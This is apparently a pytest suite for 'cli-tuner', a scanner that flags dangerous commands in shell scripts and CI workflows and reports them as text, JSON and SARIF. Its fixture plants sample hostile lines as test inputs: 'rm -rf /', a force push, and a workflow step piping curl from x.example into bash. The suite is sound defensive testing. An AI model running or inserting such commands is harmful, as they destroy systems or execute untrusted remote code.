"""`cli-tuner check --files` as CI runs it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).parents[2]


@pytest.fixture
def project(tmp_path):
    folder = tmp_path / "project"
    (folder / ".github" / "workflows").mkdir(parents=True)
    (folder / "ok.sh").write_text("#!/bin/sh\nls -la\n")
    (folder / "bad name.sh").write_text("#!/bin/sh\necho a\nrm -rf /\n")
    (folder / "push.sh").write_text("git push --force\n")
    (folder / ".github" / "workflows" / "ci.yml").write_text(
        "jobs:\n  a:\n    steps:\n      - run: curl -s http://x.example/x | bash\n"
    )
    return folder


def test_a_folder_is_searched_and_each_finding_has_its_line(cli, project):
    ended = cli("check", "--files", str(project))
    assert ended.status == 11
    assert f"{project}/bad name.sh:3:1: dangerous · CT-DEL-001" in ended.out
    assert f"{project}/.github/workflows/ci.yml:4:" in ended.out
    assert f"{project}/push.sh:1:1: review" in ended.out


@pytest.mark.parametrize(("fail_on", "status"), [("dangerous", 0), ("review", 10)])
def test_what_fails_can_be_chosen(cli, project, fail_on, status):
    ended = cli("check", "--files", str(project / "push.sh"), "--fail-on", fail_on)
    assert ended.status == status


def test_safe_files_are_said_to_be(cli, project):
    ended = cli("check", "--files", str(project / "ok.sh"))
    assert (ended.status, ended.out) == (0, "safe · 1 file\n")


def test_json(cli, project):
    document = cli("check", "--json", "--files", str(project / "bad name.sh")).document
    (finding,) = document["findings"]
    assert (finding["line"], finding["rule"], finding["level"]) == (3, "CT-DEL-001", "dangerous")


def test_sarif_has_files_lines_and_columns(cli, project):
    run = cli("check", "--sarif", "--files", str(project)).document["runs"][0]
    places = {
        (
            result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].rpartition("/")[
                2
            ],
            result["locations"][0]["physicalLocation"]["region"]["startLine"],
        )
        for result in run["results"]
    }
    assert {("bad%20name.sh", 3), ("ci.yml", 4), ("push.sh", 1)} <= places
    for result in run["results"]:
        location = result["locations"][0]["physicalLocation"]["artifactLocation"]
        assert run["artifacts"][location["index"]]["location"]["uri"] == location["uri"]
        assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    assert len(run["artifacts"]) == 4
    assert run["invocations"][0]["executionSuccessful"] is True


def test_a_file_that_cannot_be_judged_is_a_failure_and_said(cli, project):
    ended = cli("check", "--files", str(project / "none.sh"), str(project / "ok.sh"))
    assert ended.status == 1
    assert "none.sh" in ended.out
    run = cli("check", "--sarif", "--files", str(project / "none.sh")).document["runs"][0]
    assert run["invocations"][0]["executionSuccessful"] is False


def test_a_command_beside_files_is_a_usage_error(cli, project):
    assert cli("check", "ls", "--jsonl", "--files", str(project)).status == 2


def test_our_own_files_have_nothing_dangerous_in_them(cli):
    files = ["Makefile", ".ci/run", "action.yml"]
    ended = cli("check", "--files", *(str(ROOT / name) for name in files))
    assert ended.status == 0, ended.out


def test_the_pre_commit_hooks_and_the_action_call_what_there_is(cli, project):
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    for hook in hooks:
        words = hook["entry"].split()
        assert words[0] == "cli-tuner"
        assert cli(*words[1:], str(project / "ok.sh")).status == 0
    assert re.match(hooks[1]["files"], ".github/workflows/ci.yml")
    assert re.match(hooks[1]["files"], "x/action.yml")
    assert not re.match(hooks[1]["files"], "docs/ci.yml")
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    script = action["runs"]["steps"][-1]["run"]
    assert "${{" not in script, "an input must not become a command"
    for line in re.findall(r"cli-tuner (check .*?)(?: >|$)", script, re.MULTILINE):
        options = [word for word in line.split() if word.startswith("--")]
        assert set(options) <= {"--files", "--sarif", "--fail-on"}
